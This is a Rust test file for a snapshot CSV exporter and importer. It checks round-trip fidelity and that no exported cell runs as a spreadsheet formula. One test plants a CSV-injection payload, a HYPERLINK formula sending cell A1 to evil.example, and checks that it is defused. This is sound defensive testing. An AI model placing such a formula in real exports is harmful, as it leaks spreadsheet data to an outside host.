//! export-csv then import-csv gives back the very snapshot it started from, whatever
//! its ids, texts and languages, and no cell of the export runs as a formula.

use dsii_cli::csv_files::cell::{decode, encode};
use dsii_cli::csv_files::cell_list::{join, split};
use dsii_cli::csv_files::export::export;
use dsii_cli::csv_files::import::import;
use dsii_cli::csv_files::CsvFiles;
use dsii_cli::snapshot_json::snapshot_json;
use dsii_core::model::{
    ActionLine, ActionLineStatus, BudgetItem, CalendarDate, FuzzyDate, HistoryEntry, Milestone,
    MilestoneChange, MilestoneStatus, Pillar, PreviousSnapshot, Publisher, Rescheduling, Snapshot,
    Source, Text, Texts,
};
use dsii_core::validate;
use proptest::collection::{btree_map, vec};
use proptest::option;
use proptest::prelude::*;
use proptest::sample::{select, Index};

/// Pieces of ids and texts: separators, quotes, line breaks, formula starts, apostrophes,
/// backslashes and characters outside ASCII.
const PIECES: &[&str] = &[
    "a", "Z", "7", " ", ",", "\"", ";", "\\", "\n", "\r\n", "\t", "=", "+", "-", "@", "'", "''",
    "é", "漢字", "🙂", "＝", "|", "\u{0}", "\u{a0}", "\u{200b}",
];

const TAGS: &[&str] = &["nl", "en", "de", "en-GB", "zh-Hant", "FR"];

const FORMULA_STARTS: [char; 10] = [
    '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// Whether a spreadsheet could run part of the cell as a formula: at its start or after a
/// separator or line break, behind blanks and zero-width characters.
fn runs_as_formula(cell: &str) -> bool {
    let hidden = |c: char| {
        c.is_whitespace() && c != '\n' || matches!(c, '\u{200b}'..='\u{200f}' | '\u{feff}')
    };
    let starts = |c: char| matches!(c, ',' | ';' | '\t' | '\r' | '\n');
    cell.split_inclusive(starts).any(|place| {
        place.starts_with(['\t', '\r'])
            || place
                .trim_start_matches(|c: char| hidden(c) && !starts(c))
                .starts_with(FORMULA_STARTS)
    })
}

fn string() -> impl Strategy<Value = String> {
    vec(select(PIECES), 0..6).prop_map(|pieces| pieces.concat())
}

/// Distinct ids that are not blank, as the validator wants them; at least `min`.
fn ids(min: usize, max: usize) -> impl Strategy<Value = Vec<String>> {
    vec(vec(select(PIECES), 1..5), min..=max)
        .prop_map(|ids| {
            let mut seen = std::collections::BTreeSet::new();
            ids.into_iter()
                .map(|pieces| pieces.concat())
                .filter(|id| !id.trim().is_empty() && seen.insert(id.clone()))
                .collect::<Vec<_>>()
        })
        .prop_filter("enough ids", move |ids| ids.len() >= min)
}

fn text() -> impl Strategy<Value = Text> {
    prop_oneof![
        string().prop_map(Text::Plain),
        btree_map(select(TAGS).prop_map(str::to_owned), string(), 1..4)
            .prop_map(|texts| Text::Localized(texts.into_iter().collect())),
    ]
}

fn day() -> impl Strategy<Value = CalendarDate> {
    (0i64..60_000).prop_map(CalendarDate::from_days_since_epoch)
}

fn fuzzy_date() -> impl Strategy<Value = FuzzyDate> {
    prop_oneof![
        day().prop_map(FuzzyDate::Day),
        (1900i32..2100, 1u8..=12).prop_map(|(year, month)| FuzzyDate::Month { year, month }),
        (1900i32..2100, 1u8..=4).prop_map(|(year, quarter)| FuzzyDate::Quarter { year, quarter }),
        (1900i32..2100, 1u8..=2).prop_map(|(year, half)| FuzzyDate::Half { year, half }),
        (1900i32..2100).prop_map(FuzzyDate::Year),
    ]
}

fn pick(index: &Index, ids: &[String]) -> String {
    index.get(ids).clone()
}

fn picks(indices: &[Index], ids: &[String]) -> Vec<String> {
    indices.iter().map(|index| pick(index, ids)).collect()
}

prop_compose! {
    fn header()(
        id in vec(select(PIECES), 1..5).prop_map(|pieces| pieces.concat()),
        title in text(),
        summary in option::of(text()),
        as_of in 1_000i64..60_000,
        default_language in option::of(string()),
        publisher in option::of((string(), option::of(string()))),
        previous in option::of((string(), 1i64..1_000)),
    ) -> Snapshot {
        Snapshot {
            schema_version: 1,
            id,
            title,
            summary,
            as_of: CalendarDate::from_days_since_epoch(as_of),
            default_language,
            publisher: publisher.map(|(name, url)| Publisher { name, url }),
            sources: Vec::new(),
            pillars: Vec::new(),
            action_lines: Vec::new(),
            milestones: Vec::new(),
            previous: previous.map(|(url, earlier)| PreviousSnapshot {
                url,
                as_of: CalendarDate::from_days_since_epoch(as_of - earlier),
            }),
        }
    }
}

type SourceParts = (
    Text,
    Option<FuzzyDate>,
    Option<String>,
    Option<String>,
    Option<String>,
);

fn source_parts() -> impl Strategy<Value = SourceParts> {
    (
        text(),
        option::of(fuzzy_date()),
        option::of(string()),
        option::of(string()),
        option::of(string()),
    )
}

fn pillar_parts() -> impl Strategy<Value = (Text, Option<Text>)> {
    (text(), option::of(text()))
}

type Budget = (u64, Option<Text>, Index, Option<Text>);
type LineChange = (FuzzyDate, ActionLineStatus, Option<Text>, Index);

prop_compose! {
    fn line_parts()(
        pillar in any::<Index>(),
        title in text(),
        summary in option::of(text()),
        status in select(ActionLineStatus::ALL),
        owners in vec(string(), 0..3),
        budget in vec((0u64..=1_000_000_000_000_000, option::of(text()), any::<Index>(), option::of(text())), 0..3),
        sources in vec(any::<Index>(), 0..3),
        notes in option::of(text()),
        history in vec((fuzzy_date(), select(ActionLineStatus::ALL), option::of(text()), any::<Index>()), 0..3),
        checked in days_before_as_of(),
    ) -> (Index, Text, Option<Text>, ActionLineStatus, Vec<String>, Vec<Budget>, Vec<Index>, Option<Text>, Vec<LineChange>, Option<i64>) {
        (pillar, title, summary, status, owners, budget, sources, notes, history, checked)
    }
}

type Change = (
    FuzzyDate,
    Option<MilestoneStatus>,
    Option<(FuzzyDate, FuzzyDate)>,
    Option<Text>,
    Index,
);

prop_compose! {
    fn milestone_parts()(
        line in any::<Index>(),
        title in text(),
        description in option::of(text()),
        date in fuzzy_date(),
        status in select(MilestoneStatus::ALL),
        sources in vec(any::<Index>(), 0..3),
        note in option::of(text()),
        history in vec((fuzzy_date(), option::of(select(MilestoneStatus::ALL)), option::of((fuzzy_date(), fuzzy_date())), option::of(text()), any::<Index>()), 0..3),
        checked in days_before_as_of(),
    ) -> (Index, Text, Option<Text>, FuzzyDate, MilestoneStatus, Vec<Index>, Option<Text>, Vec<Change>, Option<i64>) {
        (line, title, description, date, status, sources, note, history, checked)
    }
}

/// A `checked` day as days before the snapshot's `as_of`, or none.
fn days_before_as_of() -> impl Strategy<Value = Option<i64>> {
    option::of(0i64..2_000)
}

/// A snapshot the validator accepts: unique ids, references that resolve, and checks
/// made on or before `as_of`.
fn snapshot() -> impl Strategy<Value = Snapshot> {
    (
        header(),
        (ids(1, 4), ids(1, 3), ids(0, 4), ids(0, 4)),
        vec(source_parts(), 4),
        vec(pillar_parts(), 3),
        vec(line_parts(), 4),
        vec(milestone_parts(), 4),
    )
        .prop_map(|(mut snapshot, ids, sources, pillars, lines, milestones)| {
            let (source_ids, pillar_ids, line_ids, milestone_ids) = ids;
            let as_of = snapshot.as_of.days_since_epoch();
            let checked = |days: Option<i64>| {
                days.map(|days| CalendarDate::from_days_since_epoch(as_of - days))
            };
            snapshot.sources = source_ids
                .iter()
                .zip(sources)
                .map(|(id, (title, date, url, reference, kind))| Source {
                    id: id.clone(),
                    title,
                    date,
                    url,
                    reference,
                    kind,
                })
                .collect();
            snapshot.pillars = pillar_ids
                .iter()
                .zip(pillars)
                .map(|(id, (title, summary))| Pillar {
                    id: id.clone(),
                    title,
                    summary,
                })
                .collect();
            let line_ids = &line_ids[..line_ids.len().min(lines.len())];
            snapshot.action_lines = line_ids
                .iter()
                .zip(lines)
                .map(
                    |(
                        id,
                        (
                            pillar,
                            title,
                            summary,
                            status,
                            owners,
                            budget,
                            sources,
                            notes,
                            history,
                            days,
                        ),
                    )| ActionLine {
                        checked: checked(days),
                        id: id.clone(),
                        pillar: pick(&pillar, &pillar_ids),
                        title,
                        summary,
                        status,
                        owners,
                        budget: budget
                            .into_iter()
                            .map(|(amount_eur, label, source, note)| BudgetItem {
                                amount_eur,
                                label,
                                source: pick(&source, &source_ids),
                                note,
                            })
                            .collect(),
                        sources: picks(&sources, &source_ids),
                        notes,
                        history: history
                            .into_iter()
                            .map(|(date, status, note, source)| HistoryEntry {
                                date,
                                status,
                                note,
                                source: pick(&source, &source_ids),
                            })
                            .collect(),
                    },
                )
                .collect();
            if line_ids.is_empty() {
                return snapshot;
            }
            snapshot.milestones = milestone_ids
                .into_iter()
                .zip(milestones)
                .map(
                    |(
                        id,
                        (line, title, description, date, status, sources, note, history, days),
                    )| {
                        Milestone {
                            checked: checked(days),
                            id,
                            action_line: pick(&line, line_ids),
                            title,
                            description,
                            date,
                            status,
                            sources: picks(&sources, &source_ids),
                            note,
                            history: history
                                .into_iter()
                                .map(
                                    |(date, status, rescheduled, note, source)| MilestoneChange {
                                        date,
                                        // A change records a status, a rescheduling or both.
                                        status: status.or(rescheduled
                                            .is_none()
                                            .then_some(MilestoneStatus::Done)),
                                        rescheduled: rescheduled
                                            .map(|(from, to)| Rescheduling { from, to }),
                                        note,
                                        source: pick(&source, &source_ids),
                                    },
                                )
                                .collect(),
                        }
                    },
                )
                .collect();
            snapshot
        })
}

/// Every cell of every file, read back as the spreadsheet would show it.
fn cells(files: &CsvFiles) -> Vec<(String, String)> {
    let mut cells = Vec::new();
    for (name, bytes) in files {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[3..]);
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                cells.push(((*name).to_owned(), cell.to_owned()));
            }
        }
    }
    cells
}

fn round_trip(snapshot: &Snapshot) -> Snapshot {
    let files = export(snapshot);
    match import(&files) {
        Ok(imported) => imported.snapshot,
        Err(errors) => panic!("the export does not import: {errors:#?}"),
    }
}

fn ids_of(snapshot: &Snapshot) -> Vec<Vec<String>> {
    vec![
        snapshot.sources.iter().map(|s| s.id.clone()).collect(),
        snapshot.pillars.iter().map(|p| p.id.clone()).collect(),
        snapshot.action_lines.iter().map(|l| l.id.clone()).collect(),
        snapshot
            .action_lines
            .iter()
            .flat_map(|l| l.sources.clone())
            .collect(),
        snapshot.milestones.iter().map(|m| m.id.clone()).collect(),
        snapshot
            .milestones
            .iter()
            .flat_map(|m| m.sources.clone())
            .collect(),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_valid_snapshot_comes_back_unchanged_from_csv(snapshot in snapshot()) {
        let json = snapshot_json(&snapshot).unwrap();
        let loaded = validate::load(json.as_bytes());
        prop_assert!(loaded.is_ok(), "the generator made an invalid snapshot: {:?}", loaded.err());

        let files = export(&snapshot);
        for (file, cell) in cells(&files) {
            prop_assert!(!runs_as_formula(&cell), "{file}: {cell:?} runs as a formula");
        }
        let back = round_trip(&snapshot);
        prop_assert_eq!(ids_of(&back), ids_of(&snapshot));
        prop_assert_eq!(snapshot_json(&back).unwrap(), json);
    }

    #[test]
    fn every_string_is_written_as_a_safe_cell_and_read_back(value in option::of(any::<String>())) {
        let cell = encode(value.as_deref());
        prop_assert!(!runs_as_formula(&cell), "{cell:?}");
        prop_assert_eq!(decode(&cell), value);
    }

    #[test]
    fn every_list_of_strings_survives_its_cell(entries in vec(any::<String>(), 0..4)) {
        prop_assert_eq!(split(join(&entries).as_deref()), entries);
    }
}

#[test]
fn a_formula_in_a_title_is_defused_in_its_cell_and_still_round_trips() {
    let bytes = include_bytes!("../../../tests/fixtures/policy_v2.json");
    let mut snapshot = validate::load(bytes).unwrap().snapshot;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
    snapshot.action_lines[0].title = Text::Plain(formula.to_owned());
    snapshot.action_lines[1].title = Text::Localized(Texts::from([
        ("nl".to_owned(), "+31 70 123".to_owned()),
        ("en".to_owned(), "@SUM(1+1)".to_owned()),
    ]));
    // Its history rows name it by the same defused id.
    snapshot.milestones[0].id = "-1".to_owned();

    let files = export(&snapshot);
    let cells = cells(&files);
    let lines: Vec<&str> = cells
        .iter()
        .filter(|(file, _)| file == "lines.csv")
        .map(|(_, cell)| cell.as_str())
        .collect();
    assert!(lines.contains(&format!("'{formula}").as_str()), "{lines:?}");
    assert!(lines.contains(&"'+31 70 123"), "{lines:?}");
    assert!(lines.contains(&"'@SUM(1+1)"), "{lines:?}");
    assert!(cells.contains(&("milestones.csv".to_owned(), "'-1".to_owned())));
    for (file, cell) in &cells {
        assert!(!runs_as_formula(cell), "{file}: {cell:?}");
    }

    let back = round_trip(&snapshot);
    assert_eq!(back.action_lines[0].title, Text::Plain(formula.to_owned()));
    assert_eq!(back.action_lines[1].title, snapshot.action_lines[1].title);
    assert_eq!(back.milestones[0].id, "-1");
    assert_eq!(
        snapshot_json(&back).unwrap(),
        snapshot_json(&snapshot).unwrap()
    );
}

#[test]
fn plain_and_localized_texts_keep_their_kind_and_empty_texts_stay_present() {
    let bytes = include_bytes!("../../../tests/fixtures/small_monitor.json");
    let mut snapshot = validate::load(bytes).unwrap().snapshot;
    snapshot.pillars[0].summary = Some(Text::Plain(String::new()));
    snapshot.pillars[1].summary = Some(Text::Localized(Texts::from([(
        "en".to_owned(),
        String::new(),
    )])));
    snapshot.action_lines[0].owners = vec![String::new()];

    let back = round_trip(&snapshot);
    assert_eq!(back.sources[0].title, Text::Plain("Memo".to_owned()));
    assert!(matches!(back.pillars[0].title, Text::Localized(_)));
    assert_eq!(back.pillars[0].summary, Some(Text::Plain(String::new())));
    assert_eq!(back.pillars[1].summary, snapshot.pillars[1].summary);
    assert_eq!(back.action_lines[0].owners, [""]);
    assert_eq!(back.action_lines[1].summary, None);
    assert_eq!(
        snapshot_json(&back).unwrap(),
        snapshot_json(&snapshot).unwrap()
    );
}
